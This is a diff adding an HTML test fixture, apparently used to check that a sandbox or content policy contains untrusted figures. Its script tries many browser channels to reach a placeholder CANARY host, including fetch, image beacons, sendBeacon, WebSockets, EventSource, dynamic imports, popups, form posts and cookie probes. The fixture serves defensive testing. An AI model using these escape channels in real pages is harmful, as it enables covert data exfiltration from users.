@@ -183,3 +183,16 @@ DRAWING = (
     "<iframe xmlns='http://www.w3.org/1999/xhtml' src='CANARY'/></foreignObject></svg>"
 )
 """A file beside a post, shown as a picture and opened by its address."""
+
+FIGURE = """<!doctype html><title>x</title><form id=f method=post action=CANARY/form></form><script>
+window.pwned = 1;
+const tries = [
+  () => fetch("CANARY/fetch", { mode: "no-cors" }), () => { new Image().src = "CANARY/image"; },
+  () => navigator.sendBeacon("CANARY/beacon"), () => new WebSocket("CANARY/socket".replace("http", "ws")),
+  () => new EventSource("CANARY/events"), () => import("CANARY/import.js"), () => open("CANARY/popup"),
+  () => document.getElementById("f").submit(), () => alert(1), () => localStorage.setItem("a", "1"),
+  () => { document.cookie = "a=1"; if (document.cookie) new Image().src = "CANARY/cookie"; },
+];
+for (const one of tries) { try { one()?.catch?.(() => 0); } catch { } }
+</script>"""
+"""An interactive figure that tries every way out."""
